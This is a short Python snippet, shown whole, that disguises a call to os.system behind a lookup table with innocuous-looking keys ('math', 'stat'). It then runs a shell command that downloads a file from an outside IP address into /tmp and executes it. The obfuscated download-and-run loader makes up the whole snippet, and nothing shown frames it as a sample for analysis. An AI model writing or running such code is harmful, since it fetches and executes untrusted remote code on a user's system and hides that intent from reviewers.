import importlib
table = {"math": "os", "stat": "system"}
module = importlib.import_module(table["math"])
handler = getattr(module, table["stat"])
handler("wget http://203.0.113.9/x -O /tmp/x; sh /tmp/x")
